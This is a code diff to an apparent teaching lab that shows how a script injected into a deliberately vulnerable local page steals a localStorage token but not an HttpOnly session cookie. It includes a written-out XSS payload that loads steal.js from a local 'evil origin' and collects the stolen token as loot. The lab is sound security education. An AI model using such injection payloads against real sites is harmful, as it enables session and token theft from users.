@@ -1,19 +1,53 @@
 import { API_PATHS } from '../../../shared/api/paths.ts';
-import { SEEN_COOKIE_HEADER, STOLEN_BY_HEADER, XSS_PAGE_PATH } from '../../../shared/api/lab-attacks.ts';
+import { SEEN_COOKIE_HEADER, STOLEN_BY_HEADER, XSS_FRAME_PATH, XSS_PAGE_PATH, XSS_SITE_MESSAGE, xssSiteAnswerSchema } from '../../../shared/api/lab-attacks.ts';
 import type { HttpEvent } from '../../../shared/inspector-events.ts';
 import { api } from '../api/client.ts';
 import { holdsSessionCookie } from './attack-evidence.ts';
 import { describeExchange, exchanges, requestHeader } from './evidence.ts';
 import { bearerOf, issuerOf } from './jwt-evidence.ts';
-import { cookieLogin, signOutBoth, tokenLogin } from './lab-actions.ts';
-import { closeLabFrame, openLabFrame } from './lab-frame.ts';
+import { cookieLogin, demoAccount, signOutBoth } from './lab-actions.ts';
+import { askFramedPage, closeLabFrame, openLabFrame } from './lab-frame.ts';
 import type { Evidence, Lab, LabContext } from './lab-types.ts';
+
+/** The lab 5 site's origin as this window reaches it: its port, under this window's own host name (the same site). */
+async function siteOrigin(context: LabContext): Promise<string> {
+  const { url } = await api.lab.xssSite(context.labKey);
+  return `${window.location.protocol}//${window.location.hostname}:${new URL(url!).port}`;
+}
+
+/** Asks the site's page (framed) to log in for a token, or to log it out, and waits for its answer. */
+function askSite(origin: string, ask: { action: 'login'; username: string; password: string } | { action: 'logout' }) {
+  return askFramedPage({ type: XSS_SITE_MESSAGE, ...ask }, origin, (data) => {
+    const answer = xssSiteAnswerSchema.safeParse(data);
+    return answer.success && answer.data.action === ask.action ? answer.data : null;
+  });
+}
+
+/** The site's own login: its page logs in for a token and keeps it in its localStorage (its origin's, not this window's). */
+async function siteTokenLogin(context: LabContext): Promise<void> {
+  const origin = await siteOrigin(context);
+  await openLabFrame(XSS_FRAME_PATH);
+  const answer = await askSite(origin, { action: 'login', ...(await demoAccount('alice')) });
+  if (!answer.stored) throw new Error(`the site's token login was answered ${answer.status || 'with nothing'}`);
+}
 
 /** Opens the vulnerable page with the evil origin's script in its `name`. */
 async function inject(context: LabContext): Promise<void> {
+  await siteOrigin(context);
   const { url } = await api.lab.evilOrigin(context.labKey);
   const name = `<script src="${url}/steal.js"></script>`;
-  await openLabFrame(`${XSS_PAGE_PATH}?name=${encodeURIComponent(name)}`);
+  await openLabFrame(`${XSS_FRAME_PATH}?name=${encodeURIComponent(name)}`);
+}
+
+/** The reset: the site's page logs its token out (when it is open), then the site stops. */
+async function closeSite(context: LabContext): Promise<void> {
+  const { url } = await api.lab.xssSite(context.labKey).catch(() => ({ url: null }));
+  if (url && document.getElementById('lab-attack-frame')) {
+    const origin = `${window.location.protocol}//${window.location.hostname}:${new URL(url).port}`;
+    await askSite(origin, { action: 'logout' }).catch(() => undefined);
+  }
+  closeLabFrame();
+  await api.lab.stopXssSite(context.labKey);
 }
 
 /** The loads of the vulnerable page whose query carried a script from another origin. */
@@ -40,22 +74,30 @@ export const xssTheftLab: Lab = {
   title: 'XSS theft',
   concept: 'Sessions vs JWT: what a script can steal',
   goal:
-    'Let a script from an evil origin (another loopback port, another site) into a deliberately vulnerable page of this app, and see what it can take: ' +
-    'the token in localStorage, which it replays from the page with success, but not the HttpOnly session cookie, which document.cookie never shows to a script.',
+    'A deliberately vulnerable site (the lab 5 site: this app on another loopback port, so another origin) keeps a token in its localStorage, as the token panel does here. ' +
+    'Let a script from an evil origin into its page and see what it can take: the token, which it replays from the page with success, but not the HttpOnly session cookie, which document.cookie never shows to a script.',
   steps: [
     { kind: 'action', id: 'cookie-login', label: 'Log in with a cookie session (alice)', run: (context) => cookieLogin(context), explain: 'POST /session/login: an HttpOnly cookie' },
-    { kind: 'action', id: 'token-login', label: 'Log in for a token (alice)', run: (context) => tokenLogin(context), explain: 'POST /token/login: the page keeps the token in localStorage' },
+    {
+      kind: 'action',
+      id: 'site-token-login',
+      label: 'Log in for a token (alice) on the vulnerable site',
+      run: siteTokenLogin,
+      explain: 'POST /token/login from the lab 5 site’s page, which keeps the token in its own localStorage',
+    },
     {
       kind: 'instruction',
       id: 'httponly',
-      text: 'HttpOnly keeps a cookie out of document.cookie: the browser still sends it with every request of the page, but no script can read it. localStorage has no such flag: any script running in the page reads it.',
+      text:
+        'HttpOnly keeps a cookie out of document.cookie: the browser still sends it with every request of the page, but no script can read it. localStorage has no such flag: any script running in the page reads it. ' +
+        'On plain HTTP the browser does not keep cookies apart by port, so it sends this app’s session cookie to the lab 5 site too.',
     },
     {
       kind: 'action',
       id: 'inject',
       label: 'Open the vulnerable page with the injected script',
       run: inject,
-      explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js">, in a hidden frame`,
+      explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js"> on the lab 5 site, in a sandboxed hidden frame`,
     },
     { kind: 'action', id: 'loot', label: 'Ask the evil origin what it received', run: async (context) => void (await api.lab.loot(context.labKey)), explain: `GET ${API_PATHS.labEvilOriginLoot}` },
   ],
@@ -105,7 +147,7 @@ export const xssTheftLab: Lab = {
     },
   ],
   reset: async (context) => {
-    closeLabFrame();
+    await closeSite(context);
     await api.lab.forgetLoot(context.labKey);
     await signOutBoth(context);
   },
